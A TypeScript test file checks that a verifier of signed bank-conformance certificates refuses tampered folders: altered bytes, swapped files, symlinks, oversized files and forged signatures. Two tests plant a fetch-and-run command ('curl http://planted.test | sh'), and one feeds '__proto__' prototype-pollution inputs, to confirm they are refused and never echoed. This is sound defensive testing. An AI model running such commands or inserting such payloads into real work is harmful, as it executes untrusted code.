import { execFileSync } from 'node:child_process';
import {
  copyFileSync,
  existsSync,
  mkdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runReference } from '../cli/reference-run.test-support.ts';
import { extension, writeAuthority } from './authority.ts';
import { limitsOf, writeJson } from './certificate.ts';
import { rules } from '../results/judge.ts';
import { readResultsFile } from '../results/read-results.ts';
import type { Results } from '../results/results.ts';
import type { Certificate } from './certificate.ts';
import {
  handOf,
  hasOpenssl,
  hex,
  make,
  must,
  openssl,
  openWorkshop,
  seal,
  withRoot,
} from './certificate.test-support.ts';
import type { Draft, Hand, Workshop } from './certificate.test-support.ts';
import { say } from '../messages/message.ts';
import { readSignature } from './cms.ts';
import { opensslCommand, renderPage, sumCommand } from './page.ts';
import { misdatedIn } from './verify.ts';

let shop: Workshop;
/** A signer with the same name from another authority. */
let stranger: Hand;
beforeAll(async () => {
  shop = await openWorkshop(await runReference(({ variants }) => delete variants['b']));
  const folder = join(shop.authority, 'other');
  await writeAuthority(folder, new Date());
  stranger = handOf(folder);
}, 60_000);
afterAll(() => shop.close());

const covered = ['certificate.html', 'certificate.json', 'chain.pem', 'results.json'] as const;
const names = ['SHA256SUMS', 'SHA256SUMS.p7s', ...covered] as const;

type Edit = (folder: string) => unknown;

const read = (folder: string, name: string): string => readFileSync(join(folder, name), 'utf8');

const asIs = (): void => undefined;

/** Refusals of a forged folder. Fails if checking it takes much memory. */
async function refusalsOf(edit: Edit): Promise<string> {
  const folder = shop.copy();
  await edit(folder);
  const memory = process.memoryUsage().rss;
  const { refusals, otherVersion } = await shop.verify(folder);
  expect([otherVersion, refusals.length > 0]).toEqual([null, true]);
  expect(process.memoryUsage().rss - memory).toBeLessThan(300 * 1024 * 1024);
  return refusals.join('\n');
}

const write =
  (name: string, change: (text: string) => string): Edit =>
  (folder) =>
    writeFileSync(join(folder, name), change(existsSync(join(folder, name)) ? read(folder, name) : ''));

/** Replaces a file by a sparse one. */
const holes =
  (name: string, size: number): Edit =>
  (folder) => {
    writeFileSync(join(folder, name), '');
    truncateSync(join(folder, name), size);
  };

const replace =
  (name: string, by: (path: string) => unknown = () => undefined): Edit =>
  (folder) => {
    rmSync(join(folder, name), { force: true });
    return by(join(folder, name));
  };

const sign =
  (by: (own: Hand) => Hand): Edit =>
  (folder) =>
    seal(folder, by(handOf(shop.authority)), shop.issuedAt);

const keep =
  (name: string, edit: Edit): Edit =>
  async (folder) => {
    const content = readFileSync(join(folder, name));
    await edit(folder);
    writeFileSync(join(folder, name), content);
  };

/** Edits the statement and its digest in the list, as anyone can without the key. */
const restate = (change: (text: string) => string): Edit =>
  keep('SHA256SUMS.p7s', async (folder) => {
    await write('certificate.json', change)(folder);
    await sign((own) => own)(folder);
  });

describe('an honest certificate', () => {
  it('holds, and says what it does not say', async () => {
    const { refusals, notices, certificate } = await shop.verify(shop.copy());
    expect([refusals, certificate?.variants['a']?.class]).toEqual([[], 'full']);
    expect(notices).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^The holder of the signer's key can invent evidence/),
        'It was not checked whether certificates are revoked.',
        expect.stringMatching(/requests that were not sent.*: .*a\.observed\.partner\.cookie/),
      ]),
    );
  });

  it.skipIf(!hasOpenssl())('is checked as a whole by OpenSSL and sha256sum', () => {
    const folder = shop.copy();
    writeFileSync(join(folder, 'root.pem'), read(shop.authority, 'root.pem'));
    openssl(folder, opensslCommand.replace('openssl ', ''));
    const output = execFileSync('sh', ['-c', sumCommand], { cwd: folder, encoding: 'utf8' });
    expect(output.match(/: OK/g)).toHaveLength(covered.length);
  });

  it('holds until it expires, or its signer', async () => {
    const refusalsIn = async (days: number): Promise<string> =>
      (await shop.verify(shop.copy(), later(24 * days))).refusals.join();
    expect(await refusalsIn(364)).toBe('');
    expect(await refusalsIn(366)).toMatch(/^validity: the certificate expired on [^,]*$/);
    expect(await refusalsIn(800)).toMatch(/^chain: .* was no longer valid now/);
    expect(await refusalsIn(-1)).toMatch(/in the future.*chain: .* was not valid yet now/);
  });

  it('of another version that judges by the same rules is judged again, whatever its words', async () => {
    const other = await shop.forge(
      (results) => {
        results.suite.version = '0.3.9';
        for (const { request } of [...results.controls, ...results.cases.flatMap((one) => one.exchanges)])
          request.headers = request.headers.map(([name, value]) => [
            name,
            value.replace(/(?<=\/)\d+\.\d+\.\d+$/, '0.3.9'),
          ]);
        for (const caseResult of results.cases) caseResult.title = 'in other words';
      },
      (statement) => (statement.suite.version = '0.3.9'),
    );
    const verification = await shop.verify(other);
    expect(verification).toMatchObject({ refusals: [], otherVersion: null });
    expect(verification.notices.join()).toMatch(/version 0\.3\.9 of the suite drew certificate\.html/);
    const forged = await shop.forge(
      (results) => {
        results.suite.version = '0.3.9';
        for (const caseResult of results.cases) caseResult.verdict = 'pass';
      },
      (statement) => (statement.suite.version = '0.3.9'),
    );
    expect((await shop.verify(forged)).refusals).not.toEqual([]);
  });

  it('of other rules has signature, chain and digests checked, and the version named', async () => {
    const other = await shop.forge(asIs, (statement) =>
      Object.assign(statement, { more: 1, rules: 9, suite: { ...statement.suite, version: '9.9.9' } }),
    );
    expect(await shop.verify(other)).toMatchObject({ refusals: [], otherVersion: '9.9.9' });
    await write('certificate.html', (text) => text.replace('full', 'core'))(other);
    const { refusals, otherVersion } = await shop.verify(other);
    expect([refusals.join(), otherVersion]).toEqual([
      expect.stringMatching(/html is not the file that was/),
      null,
    ]);
  });
});

it('is looked for in the folder that was named, and the one inside is pointed at', async () => {
  const folder = shop.copy();
  const above = `${folder}-above`;
  mkdirSync(above);
  renameSync(folder, join(above, 'certificate'));
  expect((await shop.verify(above)).refusals).toEqual([
    'files: no certificate that can be read is in this folder; name the folder certificate in it',
  ]);
});

describe('line ends', () => {
  const withReturns: Edit = (folder) => {
    for (const name of names.filter((one) => one !== 'SHA256SUMS.p7s'))
      write(name, (text) => text.replaceAll('\n', '\r\n'))(folder);
  };

  it('that became CR LF in all files are named, and the command restores them', async () => {
    const folder = shop.copy();
    withReturns(folder);
    const [refusal = '', ...others] = (await shop.verify(folder)).refusals;
    expect([refusal, others]).toEqual([expect.stringMatching(/CR LF, and LF was signed; nothing else/), []]);
    execFileSync('sh', ['-c', must(/perl .*(?= restores)/.exec(refusal)?.[0])], { cwd: folder });
    expect((await shop.verify(folder)).refusals).toEqual([]);
  });

  it.each<readonly [string, Edit, RegExp]>([
    [
      'in one file',
      write('certificate.json', (text) => text.replaceAll('\n', '\r\n')),
      /json is not the file/,
    ],
    ['beside another change', (to) => write('results.json', (text) => `${text} `)(to), /^chain: chain\.pem/],
  ])('that changed %s alone are a change like any other', async (what, edit, reason) => {
    const all: Edit = (folder) => {
      if (what !== 'in one file') withReturns(folder);
      return edit(folder);
    };
    expect(await refusalsOf(all)).toMatch(reason);
  });

  it('are kept by Git, whatever it is told to convert', async () => {
    const git = (cwd: string, ...words: readonly string[]): unknown =>
      execFileSync('git', ['-c', 'user.name=x', '-c', 'user.email=x@test', ...words], { cwd, stdio: 'pipe' });
    const from = shop.copy();
    git(from, 'init', '--quiet');
    git(from, 'add', '.');
    git(from, 'commit', '--quiet', '--message', 'x');
    const to = `${from}-clone`;
    git(from, 'clone', '--quiet', '-c', 'core.autocrlf=true', from, to);
    rmSync(join(to, '.git'), { recursive: true });
    expect((await shop.verify(to)).refusals).toEqual([]);
    rmSync(join(to, '.gitattributes'));
    expect((await shop.verify(to)).refusals).toEqual([]);
  });
});

describe('one byte that was changed', () => {
  it.each(covered)('in %s is noticed', async (name) => {
    const flip: Edit = (folder) => {
      const bytes = readFileSync(join(folder, name));
      const place = Math.floor(bytes.length / 2);
      bytes[place] = must(bytes[place]) ^ 1;
      writeFileSync(join(folder, name), bytes);
    };
    expect(await refusalsOf(flip)).toMatch(/^(files|chain|signature):/);
  });

  it('in the signature or in what it signs is noticed, wherever it is', async () => {
    const [sums, signature] = ['SHA256SUMS', 'SHA256SUMS.p7s'].map((name) =>
      readFileSync(join(shop.copy(), name)),
    );
    const { chain } = handOf(shop.authority);
    const check = (): unknown => readSignature(must(sums), must(signature), chain);
    expect(check()).toMatchObject({ kind: 'checked' });
    for (const bytes of [must(signature), must(sums)]) {
      for (let at = 0; at < bytes.length; at += 1) {
        const before = must(bytes[at]);
        bytes[at] = before ^ (1 << (at % 8));
        expect([at, check()]).toEqual([at, expect.any(String)]);
        bytes[at] = before;
      }
    }
  });
});

const evidence = 'results.json';

const later = (hours: number): Date => new Date(Date.now() + hours * 3_600_000);

const addHundreds: Edit = (folder) =>
  Array.from({ length: 300 }, (_, at) => writeFileSync(join(folder, `s${at}`), ''));

const link = (name: string, to: string): Edit => replace(name, (path) => symlinkSync(to, path));

const makePipe = (path: string): unknown => execFileSync('mkfifo', [path]);

const lengthened = (text: string): string => text + read(shop.authority, 'root.pem');

const withTwelve = ({ key, chain }: Hand): Hand => ({
  key,
  chain: [...chain, ...Array.from({ length: 12 }, () => stranger.chain[0])],
});

/** Manipulations that need no key, and why each is refused. */
const manipulations: readonly (readonly [string, Edit, RegExp])[] = [
  ...names.map(
    (name) => [`removes ${name}`, replace(name), new RegExp(`^files: found no ${name}$`)] as const,
  ),
  ['adds a file', write('notes.txt', () => 'x'), /notes\.txt is in the folder and not in SHA256SUMS/],
  ['adds a hidden folder', replace('.git', mkdirSync), /\.git: found a folder, expected/],
  ['adds hundreds of files', addHundreds, /^files: found more than 32 in the folder$/],
  ['renames a file', (to) => renameSync(join(to, evidence), join(to, 'r.json')), /found no results\.json$/],
  ['links to a file', link(evidence, '../made/results.json'), /: found a link, expected/],
  ['puts a pipe there', replace('chain.pem', makePipe), /chain\.pem: found a pipe, expected a regular file/],
  ['puts a folder there', replace('certificate.json', mkdirSync), /json: found a folder, expected/],
  ['sends 3 GB of another file', holes('constructor', 3e9), /: found a file larger than 6\d MiB/],
  ['sends 3 GB of evidence', holes(evidence, 3e9), /: found a file larger than 6\d MiB/],
  ['sends 2 GB of statement', holes('certificate.json', 2e9), /: found a file larger than 1 MiB/],
  ['adds to .gitattributes', write('.gitattributes', (text) => `# x\n${text}`), /another content than/],
  ['empties the signature', write('SHA256SUMS.p7s', () => ''), /else than a detached CMS signature/],
  ['rewrites the page', write('certificate.html', (text) => `${text} `), /html is not the file that/],
  ['names another target', restate((text) => text.replace('TEST ONLY', 'Bank')), /made for another content/],
  ['lists one more', write('SHA256SUMS', (text) => `${text}${'0'.repeat(64)}  x\n`), /for another content/],
  ['lengthens the chain', write('chain.pem', lengthened), /chain\.pem is not the file that was signed/],
  ['adds a note to the chain', write('chain.pem', (text) => `x\n${text}`), /else than certificates/],
  ['signs under a root of the same name', sign(() => stranger), /no chain leads from .*Demonstration signer/],
  ['signs as the signer', sign((own) => ({ ...own, key: stranger.key })), /not made with the key of the/],
  ['brings certificates along', keep('chain.pem', sign(withTwelve)), /certificate that is not in the ch/],
  ['signs in the future', (to) => seal(to, handOf(shop.authority), later(25)), /in the future/],
];

describe('without the key of the signer nobody', () => {
  it.each(manipulations)('%s', async (_name, edit, reason) => {
    expect(await refusalsOf(edit)).toMatch(reason);
  });

  it.skipIf(!hasOpenssl())('makes a signature of another form', async () => {
    const sums = readFileSync(join(shop.copy(), 'SHA256SUMS'));
    await withRoot(async (by) => {
      const keyIdentifier = extension('2.5.29.14', hex('0403010203'));
      make(by, 'signer', { kind: 'rsa', extensions: [keyIdentifier] });
      make(by, 'other');
      writeFileSync(join(by, 'sums'), sums);
      const signed = (words: string): unknown => {
        openssl(by, `cms -sign -binary -in sums -out made -signer signer.pem -inkey signer.key ${words}`);
        const read = readSignature(sums, readFileSync(join(by, 'made')), handOf(by).chain);
        return read;
      };
      const pss = '-outform DER -keyopt rsa_padding_mode:pss';
      for (const words of ['-outform DER', '-outform DER -md sha512 -keyid', `${pss} -md sha384`]) {
        expect(signed(words)).toMatchObject({ kind: 'checked' });
      }
      for (const [words, reason] of [
        ['-outform DER -md sha1', /a digest that is not accepted/],
        ['-outform DER -md sha224', /a digest that is not accepted/],
        [`${pss} -md sha1`, /a digest that is not accepted/],
        [`${pss} -md sha256 -keyopt rsa_mgf1_md:sha1`, /parameters that are not accepted/],
        ['-outform DER -noattr', /something else than a detached CMS signature in DER/],
        ['-outform DER -nodetach', /something else than a detached/],
        ['-outform DER -nocerts', /something else than a detached/],
        ['-outform DER -certfile other.pem', /a certificate that is not in the chain/],
        ['-outform DER -signer other.pem -inkey other.key', /something else than a detached/],
        ['-outform DER -stream -indef', /something else than a detached CMS signature in DER/],
        ['-outform SMIME', /something else than a detached CMS signature in DER/],
      ] as const) {
        expect([words, signed(words)]).toEqual([words, expect.stringMatching(reason)]);
      }
    });
  });
});

/** Statements that the holder of the key can make without support from the evidence. */
const statements: readonly {
  readonly what: string;
  readonly restated?: (statement: Draft<Certificate>) => unknown;
  readonly edited?: (results: Draft<Results>) => unknown;
  readonly reason: RegExp;
}[] = [
  {
    what: 'another class',
    restated: (own) => (must(own.variants['a']).class = 'core'),
    reason: /variants\.a\.class: found "core"/,
  },
  { what: 'no evidence', restated: (own) => own.files.pop(), reason: /files\[1\]: found nothing/ },
  {
    what: 'what nobody saw',
    restated: (own) => (own.unseen.stated = 9),
    reason: /stated: found 9, computed 0/,
  },
  {
    what: 'fewer kinds of passwords untried',
    restated: (own) => (own.passwords = { untried: ['x'], limit: 3 }),
    reason: /passwords\.untried\[0\]: found "x"/,
  },
  {
    what: 'more',
    restated: (own) => Object.assign(own, { more: 1 }),
    reason: /something wrong at `the top`/,
  },
  { what: 'another suite', restated: (own) => (own.suite.name = 'x'), reason: /another suite than/ },
  { what: 'half a run', edited: (all) => (all.interrupted = true), reason: /reached: found true/ },
];

describe('a signed record', () => {
  let record: Workshop;
  beforeAll(async () => {
    const failing = { defects: ['a-missing-400'] };
    record = await openWorkshop(await runReference(({ variants }) => delete variants['b'], failing));
  }, 60_000);
  afterAll(() => record.close());

  const signed = ['SHA256SUMS', 'SHA256SUMS.p7s', 'chain.pem', 'record.html', 'record.json', 'results.json'];

  it('holds, is no certificate, and says why', async () => {
    const { conclusion, certificate, refusals, notices } = await record.verify(record.copy());
    expect([conclusion, certificate?.kind]).toEqual(['record', 'sbp-banks-conformance-record']);
    expect(refusals).toContain(
      'record: Variant a does not reach class core. Failed: a.missing.partnerName.status, a.missing.partnerPassword.status, a.missing.useAuthByCert.status, a.missing.several.status.',
    );
    expect(refusals.filter((line) => !line.startsWith('record: '))).toEqual([]);
    expect(notices.join()).toMatch(/neither a mock posing as a bank/);
    const page = read(record.copy(), 'record.html');
    expect(page).toMatch(/no certificate[^]*Failed: a\.missing\.partnerName\.status/);
    expect(page).not.toMatch(/Certificate of conformance|every requirement of the class named here held/);
  });

  it.each(signed)('is refused with one byte of %s changed, or without that file', async (name) => {
    const bytes = readFileSync(join(record.copy(), name));
    const step = Math.ceil(bytes.length / 40);
    for (let at = 0; at < bytes.length; at += step) {
      const folder = record.copy();
      const changed = Buffer.from(bytes);
      changed[at] = must(changed[at]) ^ (1 << (at % 8));
      writeFileSync(join(folder, name), changed);
      const { conclusion, refusals } = await record.verify(folder);
      rmSync(folder, { recursive: true });
      expect([at, conclusion, refusals.length > 0]).toEqual([at, 'refused', true]);
    }
    const folder = record.copy();
    rmSync(join(folder, name));
    expect((await record.verify(folder)).conclusion).toBe('refused');
  });

  it('holds without .gitattributes, and is refused with one byte of it changed', async () => {
    const bytes = readFileSync(join(record.copy(), '.gitattributes'));
    for (let at = 0; at < bytes.length; at += 1) {
      const folder = record.copy();
      const changed = Buffer.from(bytes);
      changed[at] = must(changed[at]) ^ (1 << (at % 8));
      writeFileSync(join(folder, '.gitattributes'), changed);
      expect([at, (await record.verify(folder)).conclusion]).toEqual([at, 'refused']);
    }
    const folder = record.copy();
    rmSync(join(folder, '.gitattributes'));
    expect((await record.verify(folder)).conclusion).toBe('record');
  });

  const resealed =
    (by: (own: Hand) => Hand, at = (): Date => record.issuedAt): Edit =>
    (folder) =>
      seal(folder, by(handOf(record.authority)), at());

  it.each<readonly [string, Edit, RegExp]>([
    ['under a root of the same name', resealed(() => stranger), /^chain: no chain leads from/],
    [
      'by another key as the signer',
      resealed((own) => ({ ...own, key: stranger.key })),
      /not made with the key of/,
    ],
    [
      'with the chain of another authority',
      resealed((own) => ({ ...own, chain: stranger.chain })),
      /^(?:chain|signature): /,
    ],
    ['with certificates that lead nowhere', resealed(withTwelve), /^chain: /],
    [
      'in the future',
      resealed(
        (own) => own,
        () => later(25),
      ),
      /in the future/,
    ],
    [
      'with another chain beside the signature',
      write('chain.pem', () => read(shop.authority, 'signer.pem')),
      /^(?:chain|signature): /,
    ],
  ])('signed %s is refused', async (_name, edit, reason) => {
    const folder = record.copy();
    await edit(folder);
    const { conclusion, refusals, certificate } = await record.verify(folder);
    expect([conclusion, certificate, refusals.join('\n')]).toEqual([
      'refused',
      null,
      expect.stringMatching(reason),
    ]);
  });

  it('expires, and so does its signer', async () => {
    const refusalsIn = async (days: number): Promise<readonly [string, string]> => {
      const { conclusion, refusals } = await record.verify(record.copy(), later(24 * days));
      return [conclusion, refusals.filter((line) => !line.startsWith('record: ')).join()];
    };
    expect(await refusalsIn(364)).toEqual(['record', '']);
    expect(await refusalsIn(366)).toEqual([
      'refused',
      expect.stringMatching(/^validity: .* expired on [^,]*$/),
    ]);
    expect(await refusalsIn(800)).toEqual([
      'refused',
      expect.stringMatching(/^chain: .* no longer valid now/),
    ]);
  });

  it.each([
    'certificate.json',
    'certificate.html',
    'results.json',
    'chain.pem',
    'SHA256SUMS',
    'SHA256SUMS.p7s',
  ])('with %s of a certificate in its place is refused, signed again or not', async (name) => {
    for (const isSealed of [false, true]) {
      const folder = record.copy();
      copyFileSync(join(shop.copy(), name), join(folder, name.replace('certificate', 'record')));
      if (isSealed) seal(folder, handOf(record.authority), record.issuedAt);
      const { conclusion, certificate } = await record.verify(folder);
      // The seal writes these three again.
      const isOwnAgain = isSealed && /^(?:chain|SHA256SUMS)/.test(name);
      expect([isSealed, conclusion]).toEqual([isSealed, isOwnAgain ? 'record' : 'refused']);
      expect(certificate?.kind ?? null).not.toBe(certificateKind);
    }
  });

  const certificateKind = 'sbp-banks-conformance-certificate';
  const full = { class: 'full', requirements: 25 } as const;

  it.each<readonly [string, (statement: Draft<Certificate>) => unknown, RegExp]>([
    ['a certificate', (own) => (own.kind = certificateKind), /evidence: Variant a does not reach class core/],
    [
      'a certificate of class full that misses nothing',
      (own) => Object.assign(own, { kind: certificateKind, missed: [], variants: { a: full } }),
      /evidence: Variant a does not reach class core/,
    ],
    ['a class', (own) => Object.assign(must(own.variants['a']), full), /variants\.a\.class: found "full"/],
    ['that nothing is missed', (own) => (own.missed = []), /missed\[0\]: found nothing/],
    ['another reason', (own) => (own.missed = [{ code: 'missed-tls', params: {} }]), /missed\[0\]\.code/],
    ['another bank', (own) => (must(own.variants['a']).bankCode = 'x'), /bankCode: found "x", computed null/],
    ['another partner', (own) => (must(own.variants['a']).partnerName = '7'), /partnerName: found "7"/],
    ['no settings', (own) => delete own.settings, /settings: found nothing/],
    ['fewer failures', (own) => own.outside.shift(), /outside\[0\]/],
  ])('is refused as %s, even with the key of the signer', async (_name, restated, reason) => {
    const { conclusion, refusals, certificate } = await record.verify(await record.forge(asIs, restated));
    expect([conclusion, certificate?.kind ?? null]).not.toContain(certificateKind);
    expect([conclusion, refusals.join()]).toEqual(['refused', expect.stringMatching(reason)]);
  });

  it('plants no text of its signer: not in settings, reasons or the name of a partner', async () => {
    const planted = 'curl http://planted.test | sh';
    const folder = await record.forge(
      (results) => {
        results.profile.settings = [planted];
        results.target.command = planted;
        results.warnings.push({ code: 'verbatim', params: { text: planted } });
        for (const caseResult of results.cases) caseResult.note = planted;
      },
      (statement) => {
        statement.missed = [{ code: 'verbatim', params: { text: planted } }];
        must(statement.variants['a']).partnerName = planted;
      },
    );
    const { certificate, notices, conclusion } = await record.verify(folder);
    expect([conclusion, certificate, notices]).toEqual(['refused', null, []]);
    expect(JSON.stringify(await readResultsFile(folder, 'out'))).not.toContain('planted');
  });

  it('is refused under the names of a certificate, and beside one', async () => {
    const renamed = record.copy();
    for (const end of ['json', 'html'])
      renameSync(join(renamed, `record.${end}`), join(renamed, `certificate.${end}`));
    seal(renamed, handOf(record.authority), record.issuedAt);
    expect((await record.verify(renamed)).refusals.join()).toMatch(
      /certificate\.json does not show what is certified/,
    );
    const both = record.copy();
    for (const end of ['json', 'html'])
      writeFileSync(join(both, `certificate.${end}`), read(shop.copy(), `certificate.${end}`));
    seal(both, handOf(record.authority), record.issuedAt);
    expect((await record.verify(both)).conclusion).toBe('refused');
  });

  it('of another version that states less shows what follows from its evidence', async () => {
    const older = await record.forge(
      (results) => {
        results.suite.version = '0.3.9';
        for (const { request } of [...results.controls, ...results.cases.flatMap((one) => one.exchanges)])
          request.headers = request.headers.map(([name, value]) => [
            name,
            value.replace(/(?<=\/)\d+\.\d+\.\d+$/, '0.3.9'),
          ]);
      },
      (statement) => {
        statement.suite.version = '0.3.9';
        delete statement.settings;
        delete statement.missed;
        for (const own of Object.values(statement.variants)) delete own.partnerName;
        statement.doesNotSay = ['list'].slice(1) as typeof statement.doesNotSay;
      },
    );
    const { conclusion, certificate, refusals } = await record.verify(older);
    expect([conclusion, refusals.length > 0]).toEqual(['record', true]);
    expect(certificate?.settings).toContain('limits.failedLogins');
    expect(certificate?.variants['a']?.partnerName).toBe('1042');
  });
});

it('of class full says nothing of class core or untried kinds, and lists a decision once', () => {
  const whole = JSON.parse(read(shop.copy(), 'certificate.json')) as Certificate;
  const page = renderPage({ ...whole, language: 'en' }, '');
  expect(whole.doesNotSay).toEqual([
    'moment',
    'profile',
    'other-variants',
    'security',
    'signer',
    'revocation',
  ]);
  expect(page).not.toMatch(/class is core|kinds? of (?:wrong )?password/);
  expect(page).toContain(`content: "Number ${whole.id}"`);
  expect(page).toContain('content: "Page " counter(page) " of " counter(pages) ""');
  const decision = { requirements: ['a.missing.partnerName.meaning'], name: 'Ivanova', date: '2026-11-14' };
  const reviews = ['a.missing.partnerName', 'a.missing.all'].map((id) => ({ case: id, ...decision }));
  const decided = { ...whole, reviews };
  expect(renderPage(decided, '').match(/Ivanova/g)).toHaveLength(1);
  expect(limitsOf(decided).map((line) => say(line, 'en').split('Ivanova').length - 1)).toContain(1);
});

it('names the kinds of wrong passwords that the limit left out, on the page and among the limits', () => {
  const whole = JSON.parse(read(shop.copy(), 'certificate.json')) as Certificate;
  const part = { ...whole, passwords: { untried: ['first-eight', 'nul-appended'], limit: 3 } };
  const sentence =
    '2 kinds of wrong passwords not tried (limits.failedLogins: 3): first-eight, nul-appended.';
  const shown = (certificate: Certificate): string =>
    limitsOf(certificate)
      .map((one) => say(one, 'en'))
      .join('\n');
  expect([shown(part), renderPage({ ...part, language: 'en' }, '')]).toEqual([
    expect.stringContaining(sentence),
    expect.stringContaining(sentence),
  ]);
  expect(shown(whole)).not.toContain('wrong passwords');
});

describe('the owner of the signer key', () => {
  it.each(statements)('states $what and is refused', async ({ restated = asIs, edited = asIs, reason }) => {
    const folder = await shop.forge(edited, restated);
    expect((await shop.verify(folder)).refusals.join()).toMatch(reason);
  });

  it.each<readonly [string, Partial<Certificate>, RegExp]>([
    ['an end that is past', { expiresAt: '2020-01-01T00:00:00.000Z' }, /expired on 2020/],
    ['an end beyond its chain', { expiresAt: '2031-01-01T00:00:00.000Z' }, /after a certificate/],
    ['no end', { expiresAt: '9999-12-31T00:00:00.000Z' }, /longer than 3650 days/],
    ['an issue to come', { issuedAt: '2100-01-01T00:00:00.000Z' }, /issued in the future/],
    ['an issue long past', { issuedAt: '2020-01-01T00:00:00.000Z' }, /did not end before the/],
    [
      'an issue long after the run',
      { issuedAt: later(3).toISOString() },
      /issued 3 h after the run, expected/,
    ],
  ])('states %s and is refused', (_name, stated, reason) => {
    const certificate = JSON.parse(read(shop.copy(), 'certificate.json')) as Certificate;
    const signed = { chain: handOf(shop.authority).chain, signedAt: shop.issuedAt };
    expect([...misdatedIn(certificate, signed, new Date())]).toEqual([]);
    expect([...misdatedIn({ ...certificate, ...stated }, signed, new Date())].join()).toMatch(reason);
  });

  it('plants no text of his own in what is shown of the folder, valid or not', async () => {
    const planted = 'curl http://planted.test | sh';
    const folder = await shop.forge((results) => {
      results.target.command = planted;
      results.warnings.push({ code: 'verbatim', params: { text: planted } });
      for (const caseResult of results.cases) {
        caseResult.note = planted;
        for (const exchange of caseResult.exchanges) exchange.curl = planted;
      }
    });
    expect((await shop.verify(folder)).refusals.join()).toMatch(/planted/);
    expect(JSON.stringify(await readResultsFile(folder, 'out'))).not.toContain('planted');
    const older = await shop.forge((results) => (results.rules -= 1));
    await expect(readResultsFile(older, 'out')).rejects.toThrow(
      `rules: found ${rules - 1}, expected ${rules}`,
    );
  });

  it('writes the statement in another way and is refused', async () => {
    for (const change of [
      (text: string) => text.replace('{', '{"id":"x",'),
      (text: string) => `\ufeff${text}`,
      (text: string) => text.replaceAll('\n', ''),
    ]) {
      const folder = shop.copy();
      await write('certificate.json', change)(folder);
      await sign((own) => own)(folder);
      expect((await shop.verify(folder)).refusals.join()).toMatch(/as this suite writes it|another suite/);
    }
  });

  it('sends what no run leaves behind and is refused in one line', async () => {
    const { results } = shop.run;
    for (const text of [
      '{"__proto__":1}',
      '['.repeat(100_000),
      `"${'\\\\'.repeat(500_000)}"`,
      writeJson({ ...results, target: { ...results.target, variants: ['__proto__'] } }),
      writeJson({ ...results, baselines: JSON.parse('{"__proto__":{}}') as unknown }),
      writeJson(results).replace('"request-baseline"', '"__proto__"'),
      writeJson(results).replace('{', '{"verdict":"conforming",'),
    ]) {
      const folder = shop.copy();
      writeFileSync(join(folder, evidence), text);
      await sign((own) => own)(folder);
      const { refusals } = await shop.verify(folder);
      expect(refusals).toEqual([expect.stringMatching(/^(evidence|files): (?!.*defect of the suite)/)]);
    }
  });
});
